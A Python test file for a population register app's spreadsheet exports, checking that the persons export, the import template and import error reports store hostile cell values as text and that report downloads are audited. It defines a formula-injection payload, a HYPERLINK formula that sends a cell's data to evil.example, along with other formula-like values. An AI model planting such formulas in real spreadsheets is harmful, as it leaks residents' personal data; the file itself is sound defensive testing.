"""The population register's files hold text, never a formula, and survive control characters and a NUL:
the persons export, the import template and an import's error report, read back with openpyxl,
python-calamine and as XML (gongzhi/testing/hostile_cells.py). An error report's download leaves one
audit row naming it (the persons export's own row: test_export.py)."""

from __future__ import annotations

from django.db import connection

from gongzhi.people import imports, sheets
from gongzhi.people.models import Person, PopulationImport
from gongzhi.people.services import PersonInput, person_create
from gongzhi.people.tests.helpers import csv_bytes, login, person_row
from gongzhi.places.models import Household
from gongzhi.testing.audited import download, refused_without_row
from gongzhi.testing.hostile_cells import CONTROLS, FORMULAS, MIXED, assert_written_safely, read_back

FORMULA = '=HYPERLINK("http://evil.example/?d="&R2,"点击查看")'


def _stored(texts) -> list[str]:
    """Texts as a row may hold them; PostgreSQL cannot store a NUL."""
    return [t for t in texts if "\x00" not in t or connection.vendor != "postgresql"]


def test_the_persons_export_holds_names_and_addresses_as_text(district, client):
    household = district.households["g1"][0]
    person_create(
        actor=district.user("grid_worker"), household_id=household.pk, data=PersonInput(name="+1+1")
    )
    first = district.persons["g1"][0]
    Person.objects.filter(pk=first.pk).update(name=FORMULA)
    stored = _stored([*CONTROLS, MIXED])
    for person, text in zip(district.persons["g1"][1:], stored, strict=False):
        Person.objects.filter(pk=person.pk).update(name=text)
    Household.objects.filter(pk=household.pk).update(address="@SUM(A1)")
    login(client, "grid_worker")
    r = client.get("/api/v1/persons/export.xlsx")
    assert r.status_code == 200, r.content[:300]
    assert_written_safely(r.content, FORMULA, "+1+1", "@SUM(A1)", *stored)


def test_the_template_holds_no_formula(district, client):
    login(client, "grid_worker")
    read_back(client.get("/api/v1/persons/import-template.xlsx").content)
    read_back(sheets.template_workbook())


def test_an_error_report_holds_what_the_file_said_as_text_and_its_download_is_audited(district, client):
    g1 = district.grids["g1"].code
    rows = [person_row("999999999999999", "1", formula, 2000 + i) for i, formula in enumerate(FORMULAS)]
    rows.append(person_row(g1, "-1+1", "", 2100, estate="=1+1"))
    worker = district.user("grid_worker")
    # A csv: an xlsx written by openpyxl would carry the formulas as formulas, read back empty.
    record = imports.population_import(actor=worker, file_name="a.csv", content=csv_bytes(rows))
    assert record.error_count >= len(rows), record.errors
    # What an older record holds: control characters and a NUL among the stored values.
    error_rows = {**record.error_rows, "99": [g1, *_stored([*CONTROLS, MIXED])]}
    errors = [*record.errors, {"row": 99, "column": "姓名", "message": "请填写姓名"}]
    PopulationImport.objects.filter(pk=record.pk).update(error_rows=error_rows, errors=errors)
    record.refresh_from_db()
    login(client, "community_worker")
    user = district.user("community_worker")
    for url in (
        f"/api/v1/persons/imports/{record.pk}/errors.xlsx",
        f"/console/people/imports/{record.pk}/errors.xlsx",
    ):
        r, row = download(
            client, url, event="people.import_report_downloaded", document="人口导入错误报告", user=user
        )
        assert row.target_type == "people.populationimport" and row.target_id == str(record.pk)
        assert row.data["rows"] == len(record.errors) and row.data["file"] == "a.csv"
        assert_written_safely(r.content, *FORMULAS, *_stored([*CONTROLS, MIXED]))
    client.logout()
    login(client, "grid_worker_g2")
    refused_without_row(client, f"/api/v1/persons/imports/{record.pk}/errors.xlsx")
